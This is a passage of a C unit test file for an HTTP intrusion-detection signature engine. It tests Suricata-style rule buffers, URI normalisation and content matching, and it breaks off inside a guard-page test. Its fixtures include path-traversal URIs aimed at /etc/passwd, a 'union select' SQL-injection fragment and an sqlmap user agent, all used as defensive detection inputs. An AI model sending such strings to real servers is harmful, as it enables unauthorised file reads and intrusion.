/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_match: the signature engine's matching, with transactions built by
 * hand. Runs without EAL or hugepages, and under ASan/UBSan.
 */
#include "tu_eal.h"
#include "mt_engine_int.h"

#include <dirent.h>
#include <errno.h>
#include <sys/mman.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include <CUnit/Basic.h>

#include "mt_engine.h"

struct tx {
	struct mt_txn t;
	struct mt_flow_tuple tup;
};

static const struct {
	const char *name;
	enum mt_known_hdr slot;
} tx_known[] = {
	{"Host", MT_HDR_HOST}, {"User-Agent", MT_HDR_USER_AGENT},
	{"Content-Type", MT_HDR_CONTENT_TYPE}, {"Content-Length", MT_HDR_CONTENT_LENGTH},
	{"Cookie", MT_HDR_COOKIE}, {"Authorization", MT_HDR_AUTHORIZATION},
	{"Transfer-Encoding", MT_HDR_TRANSFER_ENCODING},
	{"Content-Encoding", MT_HDR_CONTENT_ENCODING}, {"Server", MT_HDR_SERVER},
	{"Location", MT_HDR_LOCATION}, {"Set-Cookie", MT_HDR_SET_COOKIE},
	{"X-Forwarded-For", MT_HDR_X_FORWARDED_FOR},
};

static inline struct mt_slice
tx_sl(const char *s)
{
	struct mt_slice x = {(const uint8_t *)s, (uint32_t)strlen(s)};
	return x;
}

/* headers: NULL-terminated "Name: value" strings (must outlive the tx) */
static inline void
tx_headers(struct mt_http_msg *m, const char *const *hdrs)
{
	for (int k = 0; k < MT_HDR__COUNT; k++)
		m->known[k] = -1;
	m->n_headers = 0;
	for (int i = 0; hdrs != NULL && hdrs[i] != NULL; i++) {
		const char *colon = strchr(hdrs[i], ':');
		struct mt_header *h = &m->headers[m->n_headers];
		const char *v = colon + 1;

		while (*v == ' ')
			v++;
		h->name.p = (const uint8_t *)hdrs[i];
		h->name.len = (uint32_t)(colon - hdrs[i]);
		h->value = tx_sl(v);
		for (size_t k = 0; k < sizeof(tx_known) / sizeof(tx_known[0]); k++)
			if (strlen(tx_known[k].name) == h->name.len &&
			    strncasecmp(tx_known[k].name, hdrs[i], h->name.len) == 0 &&
			    m->known[tx_known[k].slot] < 0)
				m->known[tx_known[k].slot] = (int16_t)m->n_headers;
		m->n_headers++;
	}
}

/* client 192.0.2.10:40000 -> server 10.0.0.5:8080 */
static inline void
tx_req(struct tx *x, const char *method, const char *uri, const char *const *hdrs)
{
	memset(x, 0, sizeof(*x));
	x->tup.family = 4;
	x->tup.proto = 6;
	x->tup.client_port = 40000;
	x->tup.server_port = 8080;
	inet_pton(AF_INET, "192.0.2.10", x->tup.client_ip);
	inet_pton(AF_INET, "10.0.0.5", x->tup.server_ip);
	x->t.tuple = &x->tup;
	x->t.req.method = tx_sl(method);
	x->t.req.uri = tx_sl(uri);
	x->t.req.http_major = 1;
	x->t.req.http_minor = 1;
	tx_headers(&x->t.req, hdrs);
	tx_headers(&x->t.resp, NULL);
}

static inline void
tx_resp(struct tx *x, uint16_t code, const char *reason, const char *const *hdrs)
{
	x->t.resp.status_code = code;
	x->t.resp.reason = tx_sl(reason);
	x->t.resp.http_major = 1;
	x->t.resp.http_minor = 1;
	tx_headers(&x->t.resp, hdrs);
}

static inline void
tx_print_errors(const struct mt_errors *er)
{
	for (size_t i = 0; i < er->n; i++)
		fprintf(stderr, "  %s:%u [%s] %s\n", er->v[i].file, er->v[i].line,
			er->v[i].keyword, er->v[i].reason);
}

static inline struct mt_engine *
tx_engine(const struct mt_engine_params *p, const char *rules)
{
	struct mt_errors er = {0};
	struct mt_engine *e = mt_engine_build_text(p, rules, "<test>", &er);

	if (e == NULL) {
		fprintf(stderr, "engine build failed for:\n%s\n", rules);
		tx_print_errors(&er);
	}
	mt_errors_clear(&er);
	return e;
}

/* Run both sides; return the hits of the side with a verdict, -1 on error. */
static inline int
tx_run(const struct mt_engine *e, const struct tx *x, struct mt_result *res)
{
	struct mt_scratch *s = mt_scratch_create(e);
	int n;

	if (s == NULL)
		return -1;
	n = mt_match_request(e, s, &x->t, res);
	if (n == 0 && x->t.resp.status_code != 0)
		n = mt_match_response(e, s, &x->t, res);
	mt_scratch_destroy(s);
	return n;
}

/* Does the single rule @p rule fire on @p x? -1 if the rule did not load. */
static inline int
tx_fires(const char *rule, const struct tx *x)
{
	struct mt_engine *e = tx_engine(NULL, rule);
	struct mt_result res;
	int n;

	if (e == NULL)
		return -1;
	n = tx_run(e, x, &res);
	mt_engine_destroy(e);
	return n;
}

static inline bool
tx_has_sid(const struct mt_result *r, uint32_t sid)
{
	for (uint32_t i = 0; i < r->n_hits; i++)
		if (r->hits[i].rule->sid == sid)
			return true;
	return false;
}


static struct mt_engine *starter(const struct mt_engine_params *p);

#define RULE(opts) "alert http any any -> any any (" opts " sid:1;)"

static const char *const H_BASIC[] = {
	"Host: API.Example.com:8080", "User-Agent: curl/8.1", "Accept: */*",
	"Cookie: session=abc123", "Content-Type: application/json", "Content-Length: 42",
	"X-Dup: one", "X-Dup: two", NULL,
};

/* ---------- buffers ---------- */

static void
test_buffers_request(void)
{
	struct tx x;

	tx_req(&x, "GET", "/api/v1/items?id=7", H_BASIC);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.method; content:\"GET\"; bsize:3;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.method; content:\"POST\";"), &x), 0);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.uri; content:\"/api/v1/items?id=7\"; bsize:18;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.uri.raw; content:\"id=7\"; endswith;"), &x), 1);
	/* host: lower case, no port; raw keeps both */
	CU_ASSERT_EQUAL(tx_fires(RULE("http.host; content:\"api.example.com\"; bsize:15;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.host.raw; content:\"API.Example.com:8080\";"), &x), 1);
	/* http.header excludes Cookie and joins repeated headers */
	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"X-Dup: one, two|0d 0a|\";"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"session=abc123\";"), &x), 0);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"Host: API.Example.com:8080|0d 0a|\"; startswith;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.header.raw; content:\"Cookie: session=abc123|0d 0a|\"; "
				      "content:\"X-Dup: two|0d 0a 0d 0a|\"; endswith;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.header_names; content:\"|0d 0a|Host|0d 0a|User-Agent|0d 0a|\"; startswith; "
				      "content:\"|0d 0a|X-Dup|0d 0a|X-Dup|0d 0a 0d 0a|\"; endswith;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.user_agent; content:\"curl/\"; startswith;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.cookie; content:\"session=abc123\"; bsize:14;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.content_type; content:\"application/json\"; bsize:16;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.content_len; content:\"42\"; bsize:2;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.request_line; content:\"GET /api/v1/items?id=7 HTTP/1.1\"; bsize:31;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.protocol; content:\"HTTP/1.1\"; bsize:8;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.start; content:\"GET /api/v1/items?id=7 HTTP/1.1|0d 0a|Host: \"; startswith; "
				      "content:\"X-Dup: two|0d 0a 0d 0a|\"; endswith;"), &x), 1);
	/* request header values without a well-known slot (Suricata 7) */
	{
		static const char *const hx[] = {
			"Host: a", "Referer: https://evil.example/x", "Accept: text/html",
			"Accept-Encoding: gzip, br", "accept-language: de-CH", "Connection: Upgrade",
			"Accept: second", NULL,
		};
		struct tx y;

		tx_req(&y, "GET", "/api/v1/items?id=7", hx);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.referer; content:\"evil.example\";"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("content:\"https://evil\"; http_referer;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.accept; content:\"text/html\"; bsize:9;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http_accept; content:\"second\";"), &y), 0);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.accept_enc; content:\"br\"; endswith;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.accept_lang; content:\"de-CH\"; bsize:5;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.connection; content:\"upgrade\"; nocase;"), &y), 1);
		/* absent header: the buffer does not exist, negation fails too */
		CU_ASSERT_EQUAL(tx_fires(RULE("http.referer; content:!\"x\";"), &x), 0);
		/* urilen: the normalised URI by default, the raw one with ,raw */
		tx_req(&y, "GET", "/a/./b?x=1", hx);
		CU_ASSERT_EQUAL(tx_fires(RULE("urilen:8;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("urilen:10, raw;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("urilen:>8;"), &y), 0);
		CU_ASSERT_EQUAL(tx_fires(RULE("urilen:7<>9, norm;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.method; content:\"GET\"; urilen:<9; bsize:3;"), &y), 1);
	}
	/* obs-fold: a folded value is matched unfolded (one space for the line
	 * break and the white space after it), except in http.header.raw */
	{
		static const char *const fx[] = {"Host: a", "X-Note: x", "User-Agent: y", NULL};
		static const char note[] = "part1\r\n \tpart2\r\n part3";
		static const char ua[] = "Mozilla/5.0\r\n sqlmap/1.7";
		struct tx y;

		tx_req(&y, "GET", "/", fx);
		y.t.req.headers[1].value = (struct mt_slice){(const uint8_t *)note, sizeof(note) - 1};
		y.t.req.headers[2].value = (struct mt_slice){(const uint8_t *)ua, sizeof(ua) - 1};
		y.t.req.obs_fold = 1;
		CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"X-Note: part1 part2 part3|0d 0a|\";"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.user_agent; content:\"Mozilla/5.0 sqlmap/1.7\"; bsize:22;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.header.raw; content:\"part1|0d 0a 20 09|part2\";"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"part1|0d 0a|\";"), &y), 0);
	}
	/* repeats of any case join the first, in order, wherever they are; a
	 * name that only shares length and letters with another stays apart */
	{
		static const char *const rep[] = {
			"X-Dup: one", "Accept: a", "x-dup: two", "Cookie: c=1", "X-Dvp: no",
			"X-DUP: three", "accept: b", "cookie: c=2", NULL,
		};
		struct tx y;

		tx_req(&y, "GET", "/", rep);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"X-Dup: one, two, three|0d 0a|"
					      "Accept: a, b|0d 0a|X-Dvp: no|0d 0a|\"; bsize:49;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"c=\";"), &y), 0);
	}
	/* Header lines that lie one after the other in the message are copied
	 * as runs: the runs must give the same buffers, around a cookie, a
	 * repeat, a line without a space after its colon and the last line,
	 * whose CRLF is written, not read (the head ends at "3" here). */
	{
		static const char head[] = "A: 1\r\nCookie: c=1\r\nB: 2\r\nB: 22\r\nC:3\r\nD: 4\r\nE: 5\r\nF: 3";
		static const struct {
			uint32_t n, nl, v, vl;
		} at[] = {{0, 1, 3, 1}, {6, 6, 14, 3}, {19, 1, 22, 1}, {25, 1, 28, 2},
			  {32, 1, 34, 1}, {37, 1, 40, 1}, {43, 1, 46, 1}, {49, 1, 52, 1}};
		struct tx y;

		tx_req(&y, "GET", "/", NULL);
		for (unsigned i = 0; i < 8; i++) {
			y.t.req.headers[i].name = (struct mt_slice){(const uint8_t *)head + at[i].n, at[i].nl};
			y.t.req.headers[i].value = (struct mt_slice){(const uint8_t *)head + at[i].v, at[i].vl};
		}
		y.t.req.n_headers = 8;
		CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"A: 1|0d 0a|B: 2, 22|0d 0a|C: 3|0d 0a|"
					      "D: 4|0d 0a|E: 5|0d 0a|F: 3|0d 0a|\"; bsize:40;"), &y), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("http.header.raw; content:\"A: 1|0d 0a|Cookie: c=1|0d 0a|B: 2|0d 0a|"
					      "B: 22|0d 0a|C: 3|0d 0a|D: 4|0d 0a|E: 5|0d 0a|F: 3|0d 0a 0d 0a|\"; bsize:58;"), &y), 1);
	}
	/* old-style modifiers select the same buffers */
	CU_ASSERT_EQUAL(tx_fires(RULE("content:\"GET\"; http_method; content:\"items\"; http_uri; "
				      "content:\"curl\"; http_user_agent; content:\"session\"; http_cookie; "
				      "content:\"api.example\"; http_host; content:\"Accept\"; http_header; "
				      "content:\"Cookie: \"; http_raw_header; content:\"id=7\"; http_raw_uri;"), &x), 1);
}

static void
test_buffers_absent(void)
{
	struct tx x;
	static const char *const h[] = {"Host: a", NULL};

	tx_req(&x, "GET", "/", h);
	/* an absent buffer fails even a negated content (as in Suricata) */
	CU_ASSERT_EQUAL(tx_fires(RULE("http.user_agent; content:!\"curl\";"), &x), 0);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.cookie; bsize:0;"), &x), 0);
	/* response buffers do not exist before the response */
	CU_ASSERT_EQUAL(tx_fires(RULE("http.stat_code; content:\"200\";"), &x), 0);
}

static void
test_buffers_response(void)
{
	struct tx x;
	static const char *const rh[] = {
		"Server: nginx/1.25", "Location: https://example.com/login",
		"Set-Cookie: id=1; HttpOnly", "Content-Type: text/html", "X-Powered-By: PHP/8.1", NULL,
	};

	tx_req(&x, "GET", "/login", H_BASIC);
	tx_resp(&x, 302, "Found", rh);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.stat_code; content:\"302\"; bsize:3;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.stat_msg; content:\"Found\"; bsize:5;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.response_line; content:\"HTTP/1.1 302 Found\"; bsize:18;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.server; content:\"nginx\"; startswith;"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.location; content:\"/login\"; endswith;"), &x), 1);
	/* with flow:to_client the shared buffers are the response's */
	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.cookie; content:\"HttpOnly\";"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.header; content:\"X-Powered-By\";"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.header; content:\"Set-Cookie\";"), &x), 0);
	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.content_type; content:\"text/html\";"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.start; content:\"HTTP/1.1 302 Found|0d 0a|Server\"; startswith;"), &x), 1);
	/* without a flow direction, as in Suricata, both messages' headers
	 * (the response's through the rule's response twin) */
	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"X-Powered-By\";"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.header; content:\"X-Dup: one, two\";"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_server; http.header; content:\"X-Powered-By\";"), &x), 0);
	CU_ASSERT_EQUAL(tx_fires(RULE("flow:to_client; http.header; content:\"X-Dup\";"), &x), 0);
	/* mixing request and response buffers: evaluated with both heads */
	CU_ASSERT_EQUAL(tx_fires(RULE("http.uri; content:\"/login\"; http.stat_code; content:\"302\";"), &x), 1);
	CU_ASSERT_EQUAL(tx_fires(RULE("http.uri; content:\"/logout\"; http.stat_code; content:\"302\";"), &x), 0);
}

/* ---------- normalisation ---------- */

static void
norm_is(const char *in, const char *want, bool want_dbl)
{
	uint8_t out[512];
	bool dbl = false;
	uint32_t n = mt_uri_normalize((const uint8_t *)in, (uint32_t)strlen(in), out, sizeof(out), &dbl);

	if (n != strlen(want) || memcmp(out, want, n) != 0 || dbl != want_dbl)
		fprintf(stderr, "normalise '%s' -> '%.*s' (dbl %d), want '%s'\n", in, (int)n, out,
			dbl, want);
	CU_ASSERT_EQUAL(n, strlen(want));
	CU_ASSERT(memcmp(out, want, n) == 0);
	CU_ASSERT_EQUAL(dbl, want_dbl);
}

static void
test_uri_normalize(void)
{
	norm_is("/a/b", "/a/b", false);
	norm_is("/a/./b", "/a/b", false);
	norm_is("/a/../b", "/b", false);
	norm_is("//a///b/", "/a/b/", false);
	norm_is("/a\\b\\..\\c", "/a/c", false);
	norm_is("/../../etc/passwd", "/etc/passwd", false);
	norm_is("/a/b/../../../c", "/c", false);
	norm_is("/%2e%2e/%2E%2E/etc/passwd", "/etc/passwd", false);
	norm_is("/a/..", "/", false);
	norm_is("/a/.", "/a/", false);
	norm_is("/", "/", false);
	norm_is("/x?q=%27a%20b", "/x?q='a b", false);
	norm_is("/x?path=..%2F..%2Fetc", "/x?path=../../etc", false);
	norm_is("/x?a=%zz%4", "/x?a=%zz%4", false);
	norm_is("/x%252e%252e/", "/x%2e%2e/", true);
	norm_is("http://host:80/a/../b?c=%41", "/b?c=A", false);
	/* the identity test that lets the URI buffer reference the request:
	 * never true where the normaliser would change a byte (random
	 * targets over the bytes that matter), and true for plain ones */
	{
		static const char al[] = "/./a.?%2\\hb";
		unsigned seed = 7, wrong = 0, normal = 0;

		for (int t = 0; t < 200000; t++) {
			uint8_t in[24], out[64];
			uint32_t len = (seed = seed * 1103515245u + 12345u) % 20, n;
			bool dbl;

			for (uint32_t i = 0; i < len; i++)
				in[i] = (uint8_t)al[((seed = seed * 1103515245u + 12345u) >> 16) %
						    (sizeof(al) - 1)];
			if (!mt_uri_is_normal(in, len))
				continue;
			normal++;
			n = mt_uri_normalize(in, len, out, sizeof(out), &dbl);
			if ((n != len || memcmp(in, out, n) != 0) && wrong++ < 5)
				printf("\n  '%.*s' is not normal: '%.*s'\n", (int)len, in, (int)n, out);
		}
		CU_ASSERT_EQUAL(wrong, 0);
		CU_ASSERT(normal > 1000);
		CU_ASSERT(mt_uri_is_normal((const uint8_t *)"/api/v1/users/42?limit=20&x=a.b", 31));
		CU_ASSERT(mt_uri_is_normal((const uint8_t *)"/.well-known/x/..y", 18));
		CU_ASSERT(!mt_uri_is_normal((const uint8_t *)"/a/./b", 6));
		CU_ASSERT(!mt_uri_is_normal((const uint8_t *)"/a/..?x", 7));
		CU_ASSERT(!mt_uri_is_normal((const uint8_t *)"/a//b", 5));
	}
	norm_is("/a/b?x=/../", "/a/b?x=/../", false);
}

/* ---------- positional semantics ---------- */

static int
on(const char *opts, const char *uri)
{
	char rule[1024];
	struct tx x;
	static const char *const h[] = {"Host: t", NULL};

	snprintf(rule, sizeof(rule), "alert http any any -> any any (http.uri.raw; %s sid:1;)", opts);
	tx_req(&x, "GET", uri, h);
	return tx_fires(rule, &x);
}

static void
test_offset_depth(void)
{
	CU_ASSERT_EQUAL(on("content:\"abc\"; offset:2;", "xxabc"), 1);
	CU_ASSERT_EQUAL(on("content:\"abc\"; offset:3;", "xxabc"), 0);
	CU_ASSERT_EQUAL(on("content:\"abc\"; depth:5;", "xxabc"), 1);
	CU_ASSERT_EQUAL(on("content:\"abc\"; depth:4;", "xxabc"), 0);
	/* depth counts from offset */
	CU_ASSERT_EQUAL(on("content:\"abc\"; offset:1; depth:4;", "xxabc"), 1);
	CU_ASSERT_EQUAL(on("content:\"abc\"; offset:1; depth:3;", "xxabc"), 0);
	CU_ASSERT_EQUAL(on("content:\"ABC\"; nocase; offset:2; depth:3;", "xxabc"), 1);
	CU_ASSERT_EQUAL(on("content:\"ABC\"; offset:2;", "xxabc"), 0);
	CU_ASSERT_EQUAL(on("content:\"abc\"; startswith;", "abcx"), 1);
	CU_ASSERT_EQUAL(on("content:\"abc\"; startswith;", "xabc"), 0);
	CU_ASSERT_EQUAL(on("content:\"abc\"; endswith;", "abcxabc"), 1);
	CU_ASSERT_EQUAL(on("content:\"abc\"; endswith;", "abcx"), 0);
	CU_ASSERT_EQUAL(on("content:\"abc\"; startswith; endswith;", "abc"), 1);
	CU_ASSERT_EQUAL(on("content:\"abc\"; startswith; endswith;", "abcabc"), 0);
	/* a long pattern beyond the window: never read past the buffer */
	CU_ASSERT_EQUAL(on("content:\"abcdef\"; offset:3;", "xxabc"), 0);
}

static void
test_relative(void)
{
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:0;", "ab"), 1);
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:1;", "ab"), 0);
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:1;", "axb"), 1);
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; within:1;", "ab"), 1);
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; within:1;", "axb"), 0);
	/* within counts from the distance point (Suricata) */
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:2; within:1;", "axxb"), 1);
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:2; within:1;", "axxxb"), 0);
	/* negative distance looks back */
	CU_ASSERT_EQUAL(on("content:\"bc\"; content:\"ab\"; distance:-3; within:2;", "abc"), 1);
	/* order matters for relative, not for absolute */
	CU_ASSERT_EQUAL(on("content:\"b\"; content:\"a\"; distance:0;", "ab"), 0);
	CU_ASSERT_EQUAL(on("content:\"b\"; content:\"a\";", "ab"), 1);
	/* backtracking: the first "abc" is followed by '-x', the second by '-y' */
	CU_ASSERT_EQUAL(on("content:\"abc\"; content:\"y\"; distance:1; within:1;", "abc-x-abc-y"), 1);
	CU_ASSERT_EQUAL(on("content:\"abc\"; content:\"z\"; distance:1; within:1;", "abc-x-abc-y"), 0);
	/* three levels of backtracking */
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:0; within:1; "
			   "content:\"c\"; distance:0; within:1;", "abxabyabc"), 1);
	CU_ASSERT_EQUAL(on("content:\"a\"; content:\"b\"; distance:0; within:1; "
			   "content:\"c\"; distance:0; within:1;", "abxabyab"), 0);
	/* a relative content in the old style: same buffer only */
	CU_ASSERT_EQUAL(on("content:\"k=\"; content:\"v\"; distance:0; within:1;", "/?k=v"), 1);
}

static void
test_negation(void)
{
	CU_ASSERT_EQUAL(on("content:!\"evil\";", "/good"), 1);
	CU_ASSERT_EQUAL(on("content:!\"evil\";", "/evil"), 0);
	CU_ASSERT_EQUAL(on("content:\"/a\"; content:!\"b\"; distance:0; within:2;", "/axxb"), 1);
	CU_ASSERT_EQUAL(on("content:\"/a\"; content:!\"b\"; distance:0; within:2;", "/axb"), 0);
	/* negated relative + backtracking: second "/a" is not followed by b */
	CU_ASSERT_EQUAL(on("content:\"/a\"; content:!\"b\"; distance:0; within:1; "
			   "content:\"z\"; distance:0;", "/ab/acz"), 1);
	CU_ASSERT_EQUAL(on("content:!\"x\"; depth:2;", "axx"), 0);
	CU_ASSERT_EQUAL(on("content:!\"x\"; offset:3;", "axx"), 1);
	CU_ASSERT_EQUAL(on("content:!\"ab\"; endswith;", "abc"), 1);
	CU_ASSERT_EQUAL(on("content:!\"bc\"; endswith;", "abc"), 0);
}

static void
test_bsize_isdataat(void)
{
	CU_ASSERT_EQUAL(on("bsize:5;", "abcde"), 1);
	CU_ASSERT_EQUAL(on("bsize:4;", "abcde"), 0);
	CU_ASSERT_EQUAL(on("bsize:<6;", "abcde"), 1);
	CU_ASSERT_EQUAL(on("bsize:<5;", "abcde"), 0);
	CU_ASSERT_EQUAL(on("bsize:>4;", "abcde"), 1);
	CU_ASSERT_EQUAL(on("bsize:>5;", "abcde"), 0);
	CU_ASSERT_EQUAL(on("bsize:4<>6;", "abcde"), 1);
	CU_ASSERT_EQUAL(on("bsize:5<>9;", "abcde"), 0);
	CU_ASSERT_EQUAL(on("content:\"b\"; bsize:5;", "abcde"), 1);
	CU_ASSERT_EQUAL(on("isdataat:4;", "abcde"), 1);
	CU_ASSERT_EQUAL(on("isdataat:5;", "abcde"), 0);
	CU_ASSERT_EQUAL(on("isdataat:!5;", "abcde"), 1);
	CU_ASSERT_EQUAL(on("content:\"c\"; isdataat:1,relative;", "abcde"), 1);
	CU_ASSERT_EQUAL(on("content:\"c\"; isdataat:2,relative;", "abcde"), 0);
	CU_ASSERT_EQUAL(on("content:\"e\"; isdataat:!1,relative;", "abcde"), 1);
	/* isdataat relative backtracks over content occurrences */
	CU_ASSERT_EQUAL(on("content:\"a\"; isdataat:!1,relative;", "abca"), 1);
}

static void
test_pcre(void)
{
	CU_ASSERT_EQUAL(on("pcre:\"/id=\\d+$/\";", "/x?id=42"), 1);
	CU_ASSERT_EQUAL(on("pcre:\"/id=\\d+$/\";", "/x?id=42a"), 0);
	CU_ASSERT_EQUAL(on("pcre:\"/SELECT/i\";", "/select"), 1);
	CU_ASSERT_EQUAL(on("pcre:\"/SELECT/\";", "/select"), 0);
	CU_ASSERT_EQUAL(on("pcre:!\"/admin/\";", "/user"), 1);
	CU_ASSERT_EQUAL(on("pcre:!\"/admin/\";", "/admin"), 0);
	CU_ASSERT_EQUAL(on("pcre:\"/^\\/x/\";", "/x/y"), 1);
	CU_ASSERT_EQUAL(on("pcre:\"/^y/m\";", "/x\ny"), 1);
	CU_ASSERT_EQUAL(on("pcre:\"/^y/\";", "/x\ny"), 0);
	CU_ASSERT_EQUAL(on("pcre:\"/x.y/s\";", "x\ny"), 1);
	CU_ASSERT_EQUAL(on("pcre:\"/x.y/\";", "x\ny"), 0);
	CU_ASSERT_EQUAL(on("pcre:\"/a b c/x\";", "abc"), 1);
	CU_ASSERT_EQUAL(on("pcre:\"/bc/A\";", "abc"), 0);
	CU_ASSERT_EQUAL(on("pcre:\"/ab/A\";", "abc"), 1);
	/* relative pcre: anchored at the end of the previous content (with backtracking) */
	CU_ASSERT_EQUAL(on("content:\"k=\"; pcre:\"/^\\d{3}/R\";", "/?k=x&k=123"), 1);
	CU_ASSERT_EQUAL(on("content:\"k=\"; pcre:\"/^\\d{3}/R\";", "/?k=x&k=12"), 0);
	CU_ASSERT_EQUAL(on("content:\"k=\"; pcre:\"/^\\d{3}/\";", "/?k=123"), 0);
	{
		struct tx x;
		static const char *const h[] = {"Host: t", "X-A: hello", NULL};

		tx_req(&x, "PUT", "/a%20b", h);
		/* buffer flags */
		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/a b/U\";"), &x), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/a%20b/I\";"), &x), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/^PUT$/M\";"), &x), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/X-A: hel+o/H\";"), &x), 1);
		CU_ASSERT_EQUAL(tx_fires(RULE("pcre:\"/X-A: hel+o\\r\\n\\r\\n/D\";"), &x), 1);
	}
}

static void
test_fast_pattern_variants(void)
{
	/* chopped fast pattern: the database holds "ho", confirmation the whole content */
	CU_ASSERT_EQUAL(on("content:\"chop\"; fast_pattern:1,2;", "/chop"), 1);
	CU_ASSERT_EQUAL(on("content:\"chop\"; fast_pattern:1,2;", "/shop"), 0);
	CU_ASSERT_EQUAL(on("content:\"only\"; fast_pattern:only;", "/only"), 1);
	CU_ASSERT_EQUAL(on("content:\"ONLY\"; nocase; fast_pattern:only;", "/only"), 1);
	/* caseless literal in the database */
	CU_ASSERT_EQUAL(on("content:\"AbC\"; nocase;", "/aBc"), 1);
	CU_ASSERT_EQUAL(on("content:\"AbC\";", "/aBc"), 0);
	/* fast pattern present, but the rule's other content is missing */
	CU_ASSERT_EQUAL(on("content:\"longpattern\"; content:\"zz\";", "/longpattern"), 0);
	/* hex bytes, including NUL, in a literal database */
	{
		static const char uri[] = "/a\x01\x02" "b";
		CU_ASSERT_EQUAL(on("content:\"|01 02|b\";", uri), 1);
	}
}

/* Every buffer read stays inside the buffer: put the URI right before a
 * PROT_NONE page, so an over-read crashes (picohttpparser's trick). */
static void
test_guard_page(void)
{
	long pg = sysconf(_SC_PAGESIZE);
	uint8_t *m = mmap(NULL, (size_t)pg * 2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	static const char *const uris[] = {
		"/x", "/abc", "/a/../b", "/%2", "/%", "/?q=1%27%20union%20select%20x--", "/..%2f..%2f",
		"/actuator/env", "/?k=123", "/%252e%252e/",
	};
	static const char *const opts[] = {
		"content:\"abc\"; endswith;", "content:\"x\"; isdataat:!1,relative;",
		"content:\"c\"; content:\"zz\"; distance:0; within:10;", "content:\"k=\"; pcre:\"/^\\d+$/R\";",
		"content:\"/\"; content:!\"q\"; distance:-1; within:5;", "bsize:>1;",
		"content:\"%\"; offset:1; depth:3;",
	};
	struct mt_engine *e = starter(NULL);
	struct mt_scratch *s;
	static const char *const h[] = {"Host: guard", NULL};

	CU_ASSERT_FATAL(m != MAP_FAILED && e != NULL);
	CU_ASSERT_FATAL(mprotect(m + pg, (size_t)pg, PROT_NONE) == 0);
	s = mt_scratch_create(e);
	CU_ASSERT_FATAL(s != NULL);
	for (size_t i = 0; i < sizeof(uris) / sizeof(uris[0]); i++) {
		size_t l = strlen(uris[i]);
		uint8_t *u = m + pg - l;
		struct tx x;
		struct mt_result r;

		memcpy(u, uris[i], l);
		tx_req(&x, "GET", "/", h);
		x.t.req.uri.p = u;
		x.t.req.uri.len = (uint32_t)l;
